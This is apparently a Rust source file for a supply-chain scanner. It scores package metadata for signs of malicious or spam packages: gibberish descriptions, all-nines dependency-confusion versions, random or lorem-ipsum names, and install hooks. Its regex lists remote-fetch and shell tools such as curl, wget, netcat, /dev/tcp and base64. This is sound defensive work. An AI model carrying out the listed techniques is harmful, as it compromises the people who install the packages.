//! The `metadata.*` rules: what a package's metadata alone says.
//!
//! Each rule is weak on its own (many honest packages have no description
//! or no repository link); they matter in combination with each other and
//! with the lure, typosquat and link detectors.
//!
//! | rule | weight | fires when |
//! | --- | --- | --- |
//! | `metadata.empty-description` | 6 | summary and description are both empty |
//! | `metadata.placeholder-description` | 10 | the only text is a placeholder (`test`, `todo`, `my package`, `lorem ipsum` ...) or under 3 letters |
//! | `metadata.summary-repeats-name` | 6 | the summary is only the package name again |
//! | `metadata.placeholder-version` | 4 | the version is `0.0.0` |
//! | `metadata.squatting-version` | 30 | the major version is all nines (`99.x`, `999.9.9`, `9999.0.0`) — the dependency-confusion habit of outbidding an internal version |
//! | `metadata.undocumented-squatting-version` | 10 | such a version on a package with no summary and no description: honest holders of such versions (takeover mitigations, retired names) say so |
//! | `metadata.random-suffix` | 15 | the name ends in a machine-made token that mixes letters and digits (`-a566ea`, `_3pxics7`) |
//! | `metadata.long-generated-name` | 12 | the name has 8 or more words, or over 64 characters |
//! | `metadata.random-letter-name` | 35 | the name (after an npm scope) is one run of 12 or more ASCII letters, every letter different, under 30% vowels, with four consonants in a row, and holds no English word of 4 letters or more (`qzvkxdpwmbjyhe`): letters drawn at random without repeats, as package generators do |
//! | `metadata.lorem-name` | 40 | the name is two or more words of the lorem-ipsum filler text (`data/lorem.txt`), with a Latin word of five letters that is not also English or two of three letters or more (`nemo-veritatis`, `nemo-sint`): the names filler generators give packages when a registry is flooded |
//! | `metadata.remote-install-script` | 45 | an npm install-time lifecycle script fetches or runs remote or encoded code (`curl`, `wget`, `http://`, `powershell`, `eval`, base64 ...) |
//! | `metadata.install-script` | 5 | an npm install-time lifecycle script runs at all (`preinstall`, `install`, `postinstall`) |
//! | `metadata.links-only-description` | 15 | the description is nothing but links |
//! | `metadata.gibberish-description` | 35 | the summary or the start of the description is random letters (`kNEgiZYypNNLlQjg lWBc BQbIvllm ...`): few vowels and most words unpronounceable, or mostly long random-case runs — filler generated so near-copies do not look alike |
//! | `metadata.no-project-links` | 2 | no homepage, repository or project URL |

use std::sync::LazyLock;

use regex::Regex;

use crate::{Detector, Field, Finding, Package};

/// The detector of the `metadata.*` rules (see the module table).
///
/// ```
/// use baitwatch_metadata::{Detector, Ecosystem, MetadataDetector, Package};
/// let mut pkg = Package::new(Ecosystem::Npm, "cash-app-money-generator-a566ea");
/// pkg.version = "0.0.0".into();
/// let mut findings = Vec::new();
/// MetadataDetector::new().detect(&pkg, &mut findings);
/// let rules: Vec<&str> = findings.iter().map(|f| f.rule.as_str()).collect();
/// assert!(rules.contains(&"metadata.random-suffix"));
/// assert!(rules.contains(&"metadata.placeholder-version"));
/// ```
#[derive(Clone, Debug, Default)]
pub struct MetadataDetector {
    _private: (),
}

impl MetadataDetector {
    /// The detector with its documented rules.
    pub fn new() -> MetadataDetector {
        MetadataDetector::default()
    }
}

/// Placeholder descriptions that generators and templates leave behind.
const PLACEHOLDERS: &[&str] = &[
    "a",
    "description",
    "desc",
    "test",
    "testing",
    "test package",
    "todo",
    "tbd",
    "none",
    "null",
    "undefined",
    "n/a",
    "na",
    "my package",
    "my first package",
    "package",
    "hello",
    "hello world",
    "example",
    "sample",
    "demo",
    "placeholder",
    "a short description",
    "short description",
    "package description",
    "add your description here",
    "a package",
    "a python package",
    "an npm package",
    "lorem ipsum",
    "lorem ipsum dolor sit amet",
    "xxx",
    "asdf",
    "...",
    "-",
];

static INSTALL_REMOTE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?xi)
        \b(curl|wget|invoke-webrequest|iwr|invoke-expression|iex|certutil|bitsadmin|powershell|pwsh|nc|ncat|netcat)\b
        | https?://
        | \beval\s*\(
        | \bnode\s+-e\b | \bnode\s+--eval\b
        | \bpython[0-9.]*\s+-c\b
        | \bbash\s+-c\b | \bsh\s+-c\b
        | \|\s*(ba|z)?sh\b
        | \bbase64\b | \batob\s*\( | Buffer\.from\(
        | /dev/tcp/
        ",
    )
    .expect("static regex")
});

static URL: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)\b(?:https?://|www\.)[^\s<>()\[\]]+").expect("static regex"));

const INSTALL_HOOKS: &[&str] = &["preinstall", "install", "postinstall", "preuninstall"];

impl Detector for MetadataDetector {
    fn name(&self) -> &str {
        "metadata"
    }

    fn detect(&self, p: &Package, out: &mut Vec<Finding>) {
        description_rules(p, out);
        version_rules(p, out);
        name_rules(p, out);
        script_rules(p, out);
        if p.urls().next().is_none() {
            out.push(Finding::new(
                "metadata.no-project-links",
                2.0,
                Field::Package,
                "",
                "no homepage, repository or project URL",
            ));
        }
    }
}

fn squash(s: &str) -> String {
    s.chars()
        .filter(|c| c.is_alphanumeric())
        .flat_map(char::to_lowercase)
        .collect()
}

fn description_rules(p: &Package, out: &mut Vec<Finding>) {
    let summary = p.summary.trim();
    let description = p.description.trim();
    if p.is_undescribed() {
        out.push(Finding::new(
            "metadata.empty-description",
            6.0,
            Field::Summary,
            "",
            "the package has neither a summary nor a description",
        ));
        return;
    }
    // Placeholder: every non-empty text is a placeholder or nearly empty.
    let texts: Vec<(Field, &str)> = [(Field::Summary, summary), (Field::Description, description)]
        .into_iter()
        .filter(|(_, t)| !t.is_empty())
        .collect();
    let trim = |c: char| c.is_ascii_punctuation() || c.is_whitespace();
    let is_placeholder = |t: &str| {
        if t.chars().filter(|c| c.is_alphabetic()).take(3).count() < 3 {
            return true;
        }
        // Lower-casing never gives punctuation or white space and never
        // makes a text shorter in characters (and a character is at most
        // four bytes): a long text is no placeholder, without lower-casing
        // all of it.
        if t.trim_matches(trim).len() > 4 * longest_placeholder() {
            return false;
        }
        let lower = t.to_lowercase();
        PLACEHOLDERS.contains(&lower.trim_matches(trim))
    };
    if let Some((field, text)) = texts.first()
        && texts.iter().all(|(_, t)| is_placeholder(t))
    {
        out.push(
            Finding::new(
                "metadata.placeholder-description",
                10.0,
                field.clone(),
                *text,
                "the only description is a placeholder",
            )
            .with_span(span_of(p, field, text)),
        );
        return;
    }
    if description.is_empty() && !summary.is_empty() {
        let s = squash(summary);
        if !s.is_empty() && s == squash(&p.name) {
            out.push(
                Finding::new(
                    "metadata.summary-repeats-name",
                    6.0,
                    Field::Summary,
                    summary,
                    "the summary only repeats the package name",
                )
                .with_span(span_of(p, &Field::Summary, summary)),
            );
        }
    }
    if let Some((field, text)) = texts.first()
        && is_gibberish(texts.iter().map(|(_, t)| *t))
    {
        let sample = window(text);
        out.push(
            Finding::new(
                "metadata.gibberish-description",
                35.0,
                field.clone(),
                truncate(sample, 120),
                "the text is random letters: few vowels and most words unpronounceable",
            )
            .with_span(span_of(p, field, sample)),
        );
    }
    if let Some(links) = links_only(description) {
        out.push(Finding::new(
            "metadata.links-only-description",
            15.0,
            Field::Description,
            truncate(description, 200),
            format!("the description is nothing but {links} link(s)"),
        ));
    }
}

/// The most characters of a [`PLACEHOLDERS`] entry.
fn longest_placeholder() -> usize {
    static LONGEST: LazyLock<usize> = LazyLock::new(|| {
        PLACEHOLDERS
            .iter()
            .map(|p| p.chars().count())
            .max()
            .unwrap_or(0)
    });
    *LONGEST
}

/// The number of links (at most 10,000) of a description that is nothing
/// but links: at least one, and at most three words (of two letters or
/// more) outside them. Stops reading at the fourth word.
fn links_only(description: &str) -> Option<usize> {
    let words = |s: &str| {
        s.split_whitespace()
            .filter(|w| w.chars().filter(|c| c.is_alphabetic()).count() >= 2)
            .count()
    };
    let urls = URL.find_iter(description).take(10_000);
    let mut links = 0usize;
    let mut seen = 0usize;
    let mut last = 0;
    for m in urls {
        links += 1;
        seen += words(description.get(last..m.start()).unwrap_or(""));
        last = m.end();
        if seen > 3 {
            return None;
        }
    }
    seen += words(description.get(last..).unwrap_or(""));
    (links >= 1 && seen <= 3).then_some(links)
}

/// How much of each text [`is_gibberish`] reads.
const GIBBERISH_WINDOW: usize = 4096;

/// The first [`GIBBERISH_WINDOW`] bytes of `text`.
fn window(text: &str) -> &str {
    let mut end = text.len().min(GIBBERISH_WINDOW);
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    &text[..end]
}

/// Whether the texts (the first [`GIBBERISH_WINDOW`] bytes of each) read
/// as random letters.
///
/// Words are runs of ASCII letters. A word of 8 or more letters whose
/// camel-case humps average under 3 letters (`jzPdeIgxLdG`: `jz Pde Igx Ld
/// G`) is random-case and counts as unpronounceable; other words are split
/// into their humps (`HealthChecks` is `Health` + `Checks`), and humps under
/// 4 letters or all capitals (acronyms) are skipped. The texts are
/// gibberish when the words kept hold at least 48 letters and 3 words, under
/// 25% of their letters are vowels (English, Spanish or German prose run at
/// 35–45%, uniformly random letters at 19%) and at least 60% of them are
/// unpronounceable: random-case, no vowel, or a run of four or more
/// consonants.
///
/// Or, for filler written as a few long random-case runs that the word
/// counts above miss (`EmQQkPHGnSFbrIQOHXUX... sEw`), see
/// [`is_random_case`].
fn is_gibberish<'a>(texts: impl Iterator<Item = &'a str> + Clone) -> bool {
    is_unpronounceable(texts.clone()) || is_random_case(texts)
}

/// Whether `text` is random letters, as `metadata.gibberish-description`
/// judges a summary or description: few vowels and mostly unpronounceable
/// words, or mostly long random-case runs. Other detectors use it to tell
/// filler from prose.
///
/// ```
/// use baitwatch_metadata::is_gibberish_text;
///
/// assert!(is_gibberish_text("qzxv prtklm wvbnrt sdfghk mnbvcx zxcvbn lkjhgf poiuyt trewq"));
/// assert!(is_gibberish_text("xQbTrWmPzKvLnHgFdSjYcVbNmQwErTyUpLkJhG ZxCvBnMqWeRtYuIoPaSdFgHjKl"));
/// assert!(!is_gibberish_text("Parses railway timetables and plans connections between stations"));
/// ```
pub fn is_gibberish_text(text: &str) -> bool {
    is_gibberish(std::iter::once(text))
}

/// The texts are mostly long random-case tokens: of the letters in
/// whitespace-separated words made only of ASCII letters, at least 60%
/// (and at least 24 letters) are in words of 12 or more letters that
/// switch case on average at least every 2.2 letters and have under 30%
/// vowels (`EmQQkPHGnSFbrIQOHXUXriVj`). CamelCase identifiers switch case
/// only at word boundaries (`ClayProgressBar`: every 2.5 letters), and
/// tokens with digits or `+/=` (base64, encoded headers) are not counted.
fn is_random_case<'a>(texts: impl Iterator<Item = &'a str> + Clone) -> bool {
    let (mut letters, mut random) = (0usize, 0usize);
    // Bytes not yet read: were they all letters of random-case words,
    // could the share still reach 60%? Prose settles that within the
    // first half of the window.
    let mut unread: usize = texts.clone().map(|t| window(t).len()).sum();
    for text in texts {
        let text = window(text);
        let base = text.as_ptr() as usize;
        let mut read = 0;
        for word in text.split_whitespace() {
            // Up to this word's start: its own letters are still to come.
            let start = word.as_ptr() as usize - base;
            unread = unread.saturating_sub(start - read);
            read = start;
            if 4 * unread < (6 * letters).saturating_sub(10 * random) {
                return false;
            }
            let (l, r) = random_case_letters(word);
            letters += l;
            random += r;
        }
        unread = unread.saturating_sub(text.len() - read);
    }
    is_mostly_random_case(letters, random)
}

/// What one whitespace-separated word adds to [`is_random_case`]: its
/// letters (0 unless, edge punctuation trimmed, it is all ASCII letters)
/// and, of those, the random-case ones (a word of 12 or more letters
/// switching case every 2.2 letters or more often, under 30% vowels).
fn random_case_letters(word: &str) -> (usize, usize) {
    let b = word.trim_matches(edge_punctuation).as_bytes();
    if b.is_empty() || !b.iter().all(u8::is_ascii_alphabetic) {
        return (0, 0);
    }
    if b.len() < 12 {
        return (b.len(), 0);
    }
    let runs = 1 + b
        .windows(2)
        .filter(|p| p[0].is_ascii_uppercase() != p[1].is_ascii_uppercase())
        .count();
    let (vowels, _) = vowels_and_consonant_run(b);
    let random = b.len() * 10 < runs * 22 && vowels * 10 < b.len() * 3;
    (b.len(), if random { b.len() } else { 0 })
}

/// The verdict of [`is_random_case`] on its totals.
fn is_mostly_random_case(letters: usize, random: usize) -> bool {
    letters >= 24 && random * 10 >= letters * 6
}

/// Punctuation trimmed from the words of [`is_random_case`]: a character
/// of `".,;:!?()\"'"`, without a string search for each one.
fn edge_punctuation(c: char) -> bool {
    matches!(
        c,
        '.' | ',' | ';' | ':' | '!' | '?' | '(' | ')' | '"' | '\''
    )
}

/// Few vowels and mostly unpronounceable words (see [`is_gibberish`]).
fn is_unpronounceable<'a>(texts: impl Iterator<Item = &'a str> + Clone) -> bool {
    let mut tally = Tally::default();
    let mut humps: Vec<(usize, usize)> = Vec::new();
    let mut unread: usize = texts.clone().map(|t| window(t).len()).sum();
    for text in texts {
        let bytes = window(text).as_bytes();
        unread = unread.saturating_sub(bytes.len());
        for (start, word) in letter_runs(bytes) {
            if tally.is_settled_against(unread + (bytes.len() - start)) {
                return false;
            }
            // Most words are lower case after their first letter: one hump.
            if word.iter().skip(1).all(u8::is_ascii_lowercase) {
                if word.len() >= 4 {
                    tally.add(word, false);
                }
                continue;
            }
            camel_humps(word, &mut humps);
            tally.add_humps(word, &humps);
        }
    }
    tally.is_unpronounceable()
}

/// The runs of ASCII letters of `bytes`, each with its start.
fn letter_runs(bytes: &[u8]) -> impl Iterator<Item = (usize, &[u8])> {
    let mut i = 0;
    std::iter::from_fn(move || {
        while bytes.get(i).is_some_and(|b| !b.is_ascii_alphabetic()) {
            i += 1;
        }
        let start = i;
        while bytes.get(i).is_some_and(u8::is_ascii_alphabetic) {
            i += 1;
        }
        bytes
            .get(start..i)
            .filter(|w| !w.is_empty())
            .map(|w| (start, w))
    })
}

/// The camel-case humps of an ASCII word as byte ranges (`HTTPServer`:
/// `HTTP`, `Server`), into `humps` (cleared first).
fn camel_humps(word: &[u8], humps: &mut Vec<(usize, usize)>) {
    humps.clear();
    let mut hump = 0;
    for j in 1..word.len() {
        let (prev, cur) = (word[j - 1], word[j]);
        let next_lower = word.get(j + 1).is_some_and(u8::is_ascii_lowercase);
        if cur.is_ascii_uppercase()
            && (prev.is_ascii_lowercase() || (prev.is_ascii_uppercase() && next_lower))
        {
            humps.push((hump, j));
            hump = j;
        }
    }
    humps.push((hump, word.len()));
}

/// The vowels (`aeiou`, any case) of an ASCII word and its longest run of
/// other letters (`y` ends a run but is no vowel).
fn vowels_and_consonant_run(word: &[u8]) -> (usize, usize) {
    let (mut vowels, mut run, mut longest) = (0usize, 0usize, 0usize);
    for &b in word {
        match b.to_ascii_lowercase() {
            b'a' | b'e' | b'i' | b'o' | b'u' => {
                vowels += 1;
                run = 0;
            }
            b'y' => run = 0,
            _ => {
                run += 1;
                longest = longest.max(run);
            }
        }
    }
    (vowels, longest)
}

/// Counts kept by [`is_gibberish`].
#[derive(Default)]
struct Tally {
    words: usize,
    bad: usize,
    letters: usize,
    vowels: usize,
}

impl Tally {
    fn add(&mut self, word: &[u8], random_case: bool) {
        let (vowels, longest) = vowels_and_consonant_run(word);
        self.vowels += vowels;
        self.letters += word.len();
        self.words += 1;
        if random_case || longest >= 4 || vowels == 0 {
            self.bad += 1;
        }
    }

    /// Adds a word split into its camel-case `humps`: a long word of many
    /// short humps as one random-case word, else each hump of four letters
    /// or more that is not all capitals.
    fn add_humps(&mut self, word: &[u8], humps: &[(usize, usize)]) {
        if word.len() >= 8 && humps.len() >= 3 && word.len() < humps.len() * 3 {
            self.add(word, true);
            return;
        }
        for &(a, b) in humps {
            let part = word.get(a..b).unwrap_or_default();
            if part.len() >= 4 && !part.iter().all(u8::is_ascii_uppercase) {
                self.add(part, false);
            }
        }
    }

    /// Whether no `unread` bytes more could make [`Tally::is_unpronounceable`]
    /// true: not if every one were a consonant (vowels stay at a quarter of
    /// the letters or more), not if they made words of four letters, all
    /// unpronounceable (too few bad words).
    fn is_settled_against(&self, unread: usize) -> bool {
        let vowels_stay = self.vowels * 4 >= self.letters + unread;
        let words_stay = 2 * unread.div_ceil(4) < (3 * self.words).saturating_sub(5 * self.bad);
        vowels_stay || words_stay
    }

    /// Few vowels and mostly unpronounceable words over enough text.
    fn is_unpronounceable(&self) -> bool {
        let &Tally {
            words,
            bad,
            letters,
            vowels,
        } = self;
        letters >= 48 && words >= 3 && vowels * 4 < letters && bad * 5 >= words * 3
    }
}

/// Span of `text` (a trimmed slice of the field) in the field's original text.
fn span_of(p: &Package, field: &Field, text: &str) -> std::ops::Range<usize> {
    let original = field.text(p).unwrap_or("");
    let start = original.find(text).unwrap_or(0);
    start..(start + text.len()).min(original.len())
}

fn truncate(s: &str, max: usize) -> String {
    if s.len() <= max {
        return s.to_owned();
    }
    let mut end = max;
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    format!("{}…", &s[..end])
}

fn version_rules(p: &Package, out: &mut Vec<Finding>) {
    let v = p.version.trim().trim_start_matches(['v', 'V']);
    if v.is_empty() {
        return;
    }
    let parts: Vec<&str> = v.split(['.', '-', '+']).collect();
    if parts.len() >= 2 && parts.iter().take(3).all(|x| *x == "0") {
        out.push(Finding::new(
            "metadata.placeholder-version",
            4.0,
            Field::Version,
            v,
            "the version is a placeholder 0.0.0",
        ));
        return;
    }
    let major = parts.first().copied().unwrap_or("");
    if major.len() >= 2 && major.bytes().all(|b| b == b'9') {
        out.push(Finding::new(
            "metadata.squatting-version",
            30.0,
            Field::Version,
            v,
            "a major version of all nines, as dependency-confusion packages use to outrank an internal package",
        ));
        if p.is_undescribed() {
            out.push(Finding::new(
                "metadata.undocumented-squatting-version",
                10.0,
                Field::Version,
                v,
                "a major version of all nines and no summary or description to say why",
            ));
        }
    }
}

/// Tokens that mix letters and digits in ways people do not write.
fn is_random_token(t: &str) -> bool {
    let n = t.chars().count();
    if !(5..=16).contains(&n) || !t.chars().all(|c| c.is_ascii_alphanumeric()) {
        return false;
    }
    let digits = t.chars().filter(char::is_ascii_digit).count();
    if digits < 2 || digits == n {
        return false;
    }
    let mut transitions = 0;
    let mut prev: Option<bool> = None;
    for c in t.chars() {
        let d = c.is_ascii_digit();
        if prev.is_some_and(|p| p != d) {
            transitions += 1;
        }
        prev = Some(d);
    }
    transitions >= 2
}

fn name_rules(p: &Package, out: &mut Vec<Finding>) {
    let (_, bare) = crate::split_npm_scope(&p.name);
    let tokens: Vec<&str> = bare
        .split(|c: char| !c.is_alphanumeric())
        .filter(|t| !t.is_empty())
        .collect();
    if tokens.len() >= 2
        && let Some(last) = tokens.last()
        && is_random_token(&last.to_ascii_lowercase())
    {
        let start = p.name.rfind(last).unwrap_or(0);
        out.push(
            Finding::new(
                "metadata.random-suffix",
                15.0,
                Field::Name,
                *last,
                format!("the name ends in a machine-made token `{last}`"),
            )
            .with_span(start..start + last.len()),
        );
    }
    if let Some(word) = lorem_name(&tokens) {
        out.push(Finding::new(
            "metadata.lorem-name",
            40.0,
            Field::Name,
            bare,
            format!(
                "the name is made only of lorem-ipsum filler words (`{word}` ...), as generators name packages that flood a registry"
            ),
        ));
    }
    if is_random_letters(bare) {
        out.push(
            Finding::new(
                "metadata.random-letter-name",
                35.0,
                Field::Name,
                bare,
                "the name is letters drawn at random: none repeats, few vowels, no English word",
            )
            .with_span(p.name.len() - bare.len()..p.name.len()),
        );
    }
    if tokens.len() >= 8 || bare.chars().count() > 64 {
        out.push(Finding::new(
            "metadata.long-generated-name",
            12.0,
            Field::Name,
            p.name.clone(),
            format!("a very long name of {} words", tokens.len()),
        ));
    }
}

/// A name of random letters (see the `metadata.random-letter-name` rule):
/// 12 or more ASCII letters, none repeated (case aside), vowels under 30%,
/// four consonants in a row (`y` breaks a run), and no English word of
/// four letters or more inside. Honest names of that length that repeat no
/// letter are compounds (`cloudpayments`, `basedpyright`), and hold words.
fn is_random_letters(name: &str) -> bool {
    let b = name.as_bytes();
    if b.len() < 12 || b.len() > 26 || !b.iter().all(u8::is_ascii_alphabetic) {
        return false;
    }
    let mut seen = 0u32;
    for &c in b {
        let bit = 1u32 << (c.to_ascii_lowercase() - b'a');
        if seen & bit != 0 {
            return false;
        }
        seen |= bit;
    }
    let (vowels, longest) = vowels_and_consonant_run(b);
    vowels * 10 < b.len() * 3
        && longest >= 4
        && !baitwatch_text::english::contains_english_word(name)
}

/// The words of the lorem-ipsum filler text (`data/lorem.txt`), sorted.
static LOREM_WORDS: LazyLock<Vec<String>> = LazyLock::new(|| {
    let mut words: Vec<String> = include_str!("../data/lorem.txt")
        .lines()
        .filter(|l| !l.starts_with('#'))
        .flat_map(|l| l.split(|c: char| !c.is_ascii_alphabetic()))
        .filter(|w| !w.is_empty())
        .map(str::to_ascii_lowercase)
        .collect();
    words.sort_unstable();
    words.dedup();
    words
});

/// Filler words that are also everyday English or code words, or name the
/// filler itself (`lorem-ipsum` is an honest generator's name): they do
/// not make a name Latin on their own.
const LOREM_ALSO_ENGLISH: &[&str] = &[
    "alias", "culpa", "dicta", "dolor", "error", "ipsum", "lorem", "magna", "maxime", "minus",
    "nihil", "quasi", "vitae",
];

/// The first Latin word that makes `tokens` a filler-generated name: every
/// token is a lorem-ipsum word, there are two or more, and they hold a
/// word of five letters or more that is not also English, or two of three
/// letters or more, one of four or more (`nemo-sint`); short filler words
/// alone (`id-est`, `in-eu`) are too like English and code.
fn lorem_name(tokens: &[&str]) -> Option<String> {
    if tokens.len() < 2 {
        return None;
    }
    let mut latin: Vec<String> = Vec::new();
    for t in tokens {
        if t.len() > 24 || !t.is_ascii() {
            return None;
        }
        let lower = t.to_ascii_lowercase();
        if LOREM_WORDS.binary_search(&lower).is_err() {
            return None;
        }
        if lower.len() >= 3 && !LOREM_ALSO_ENGLISH.contains(&lower.as_str()) {
            latin.push(lower);
        }
    }
    let long = latin.iter().position(|w| w.len() >= 5);
    let four = latin.iter().position(|w| w.len() >= 4);
    match (long, four) {
        (Some(i), _) => Some(latin.swap_remove(i)),
        (None, Some(i)) if latin.len() >= 2 => Some(latin.swap_remove(i)),
        _ => None,
    }
}

fn script_rules(p: &Package, out: &mut Vec<Finding>) {
    for (hook, script) in &p.install_scripts {
        if !INSTALL_HOOKS.contains(&hook.as_str()) {
            continue;
        }
        let script_head = truncate(script, 4096);
        if let Some(m) = INSTALL_REMOTE.find(&script_head) {
            out.push(
                Finding::new(
                    "metadata.remote-install-script",
                    45.0,
                    Field::InstallScripts,
                    truncate(script, 300),
                    format!(
                        "the `{hook}` script runs at install time and fetches or runs remote or encoded code (`{}`)",
                        m.as_str()
                    ),
                )
                .with_span(m.range()),
            );
        } else {
            out.push(Finding::new(
                "metadata.install-script",
                5.0,
                Field::InstallScripts,
                truncate(script, 300),
                format!("the `{hook}` script runs at install time"),
            ));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::Ecosystem;
    use proptest::prelude::*;

    /// [`edge_punctuation`] is the string search it replaces, for every
    /// character.
    #[test]
    fn edge_punctuation_is_the_string_search() {
        for c in (0..=0x10FFFF).filter_map(char::from_u32) {
            assert_eq!(edge_punctuation(c), ".,;:!?()\"'".contains(c), "{c:?}");
        }
    }

    /// `links_only` and `is_placeholder` as they were written first.
    fn links_only_reference(description: &str) -> Option<usize> {
        let mut links = 0usize;
        let mut rest = String::new();
        let mut last = 0;
        for m in URL.find_iter(description).take(10_000) {
            links += 1;
            rest.push_str(&description[last..m.start()]);
            rest.push(' ');
            last = m.end();
        }
        rest.push_str(&description[last..]);
        let words = rest
            .split_whitespace()
            .filter(|w| w.chars().filter(|c| c.is_alphabetic()).count() >= 2)
            .count();
        (links >= 1 && words <= 3).then_some(links)
    }

    fn placeholder_reference(t: &str) -> bool {
        let lower = t.to_lowercase();
        let lower = lower.trim_matches(|c: char| c.is_ascii_punctuation() || c.is_whitespace());
        PLACEHOLDERS.contains(&lower) || t.chars().filter(|c| c.is_alphabetic()).count() < 3
    }

    fn placeholder_fired(t: &str) -> bool {
        let mut out = Vec::new();
        let mut p = Package::new(Ecosystem::Npm, "x");
        p.summary = t.into();
        description_rules(&p, &mut out);
        out.iter()
            .any(|f| f.rule == "metadata.placeholder-description")
    }

    #[test]
    fn shortcuts_agree_with_the_first_forms() {
        for t in [
            "https://x.io",
            "see https://x.io and www.y.com",
            "a https://x.io b c d",
            "one two three http://a.b four",
            "TODO",
            "  -- Lorem Ipsum! ",
            "My Package",
            "İ",
            "a package description that goes on for a while",
        ] {
            assert_eq!(links_only(t), links_only_reference(t), "{t:?}");
            let trimmed = t.trim();
            assert_eq!(
                placeholder_fired(t),
                !trimmed.is_empty() && placeholder_reference(trimmed),
                "{t:?}"
            );
        }
    }

    /// [`is_unpronounceable`] without its one-hump shortcut and its early
    /// exit: every word of every text goes through the camel-case split,
    /// one tally over all the texts.
    fn unpronounceable_reference(texts: &[&str]) -> bool {
        let mut tally = Tally::default();
        for text in texts {
            for (_, word) in letter_runs(window(text).as_bytes()) {
                let mut humps = Vec::new();
                camel_humps(word, &mut humps);
                tally.add_humps(word, &humps);
            }
        }
        tally.is_unpronounceable()
    }

    /// [`is_random_case`] without its early exit: every word is read.
    fn random_case_reference(texts: &[&str]) -> bool {
        let (mut letters, mut random) = (0usize, 0usize);
        for text in texts {
            for word in window(text).split_whitespace() {
                let (l, r) = random_case_letters(word);
                letters += l;
                random += r;
            }
        }
        is_mostly_random_case(letters, random)
    }

    fn gibberish_agrees(text: &str) {
        assert_eq!(
            is_unpronounceable([text].into_iter()),
            unpronounceable_reference(&[text]),
            "{text:?}"
        );
        assert_eq!(
            is_random_case([text].into_iter()),
            random_case_reference(&[text]),
            "{text:?}"
        );
    }

    /// Two texts (summary and description) with their early exits.
    fn gibberish_agrees_on_two(a: &str, b: &str) {
        assert_eq!(
            is_unpronounceable([a, b].into_iter()),
            unpronounceable_reference(&[a, b]),
            "{a:?} / {b:?}"
        );
        assert_eq!(
            is_random_case([a, b].into_iter()),
            random_case_reference(&[a, b]),
            "{a:?} / {b:?}"
        );
    }

    #[test]
    fn gibberish_shortcuts_agree() {
        for text in [
            "",
            " \t\x0b\x0c\r\n",
            "a\u{a0}b\u{2003}c\u{85}d\u{3000}e",
            "EmQQkPHGnSFbrIQOHXUXriVj sEwQpLkRtZbXcVnMqW (jzPdeIgxLdGqWrTy).",
            "kNEgiZYypNNLlQjg lWBc BQbIvllm xkcdqwrt zzzzz bcdfg HealthChecks",
            "\"'.,;:!?()",
            "caf\u{e9} na\u{ef}ve HTTPServer XMLHttpRequest",
        ] {
            gibberish_agrees(text);
        }
    }

    proptest! {
        #[test]
        fn gibberish_agrees_on_any_text(text in any::<String>()) {
            gibberish_agrees(&text);
        }

        #[test]
        fn gibberish_agrees_on_words(
            text in "([a-zA-Z]{1,14}|[ \t\x0b\n.,;:!?()\"'\u{a0}\u{2003}\u{e9}0-9+/=]){0,40}"
        ) {
            gibberish_agrees(&text);
        }

        #[test]
        fn gibberish_agrees_on_two_texts(
            a in "([a-zA-Z]{1,14}|[ .,aeiou]){0,30}",
            b in "([a-zA-Z]{1,20}|[ \t\n.,;()\"'0-9]|[aeiou]{1,3}){0,200}"
        ) {
            gibberish_agrees_on_two(&a, &b);
        }

        #[test]
        fn gibberish_agrees_on_long_texts(
            words in proptest::collection::vec("[a-zA-Z]{1,16}|[bcdfghjklmnpqrstvwxz]{4,9}|[A-Z][a-z]{2,8}", 0..900),
            seps in proptest::collection::vec("[ \n.,]", 0..900)
        ) {
            // Texts past the window, so the early exits have room to act.
            let text: String = words
                .iter()
                .zip(seps.iter().chain(std::iter::repeat(&" ".to_owned())))
                .map(|(w, s)| format!("{w}{s}"))
                .collect();
            gibberish_agrees(&text);
            gibberish_agrees_on_two("Summary words here", &text);
        }

        #[test]
        fn links_only_agrees(t in "((https?://|www\\.)[a-z./]{1,8}|[ a-zé.]{0,6}|\n){0,12}") {
            prop_assert_eq!(links_only(&t), links_only_reference(&t));
        }

        #[test]
        fn placeholder_agrees(t in "(todo|test|lorem|ipsum|my|package|description|[ -.!İK]|[a-z]){0,40}") {
            let trimmed = t.trim();
            prop_assert_eq!(
                placeholder_fired(&t),
                !trimmed.is_empty() && placeholder_reference(trimmed)
            );
        }
    }

    fn rules_of(p: &Package) -> Vec<String> {
        let mut out = Vec::new();
        MetadataDetector::new().detect(p, &mut out);
        out.into_iter().map(|f| f.rule).collect()
    }

    fn pkg(name: &str, version: &str, summary: &str, description: &str) -> Package {
        let mut p = Package::new(Ecosystem::Npm, name);
        p.version = version.into();
        p.summary = summary.into();
        p.description = description.into();
        p.homepage = "https://example.org".into();
        p
    }

    /// (name, version, summary, description, must fire, must not fire)
    type Case<'a> = (
        &'a str,
        &'a str,
        &'a str,
        &'a str,
        &'a [&'a str],
        &'a [&'a str],
    );

    #[test]
    fn table() {
        let cases: &[Case<'_>] = &[
            ("x", "1.0.0", "", "", &["metadata.empty-description"], &[]),
            (
                "x",
                "1.0.0",
                "",
                "jzPdeIgxLdG cfBAepfJB KhoOOL KLzdoc isAjIhKtJRlgLK mxgJTeKdNnFRIBXu LDxtpYlSXpfKt FvUCsMehGAkWvj FAcQeWJKYuvSwMFLZDef",
                &["metadata.gibberish-description"],
                &[],
            ),
            (
                "x",
                "1.0.0",
                "QhVbTRpXkWmZsDcLfNgYjHqBvTrKpMxWlSdFgZcJnRbHvQ xYt",
                "",
                &["metadata.gibberish-description"],
                &[],
            ),
            (
                "x",
                "1.0.0",
                "WidgetProgressBar component",
                "=?utf-8?b?QWxwaGFCZXRhR2FtbWFEZWx0YUVwc2lsb24gWmV0YQ==?= aGVsbG8gd29ybGQgZnJvbSBiYXNlNjQ=",
                &[],
                &["metadata.gibberish-description"],
            ),
            (
                "x",
                "1.0.0",
                "HealthChecks.MySql is the health check package for MySQL. [HealthChecks HealthCheck MySql Sql]",
                "",
                &[],
                &["metadata.gibberish-description"],
            ),
            (
                "x",
                "1.0.0",
                "Eine kleine Bibliothek zum Lesen und Schreiben von Konfigurationsdateien mit Unterstützung für Umgebungsvariablen",
                "Una biblioteca pequeña para leer y escribir archivos de configuración con variables de entorno",
                &[],
                &["metadata.gibberish-description"],
            ),
            (
                "x",
                "1.0.0",
                "Provides enhanced HTTPS support for httplib and urllib2 using PyOpenSSL",
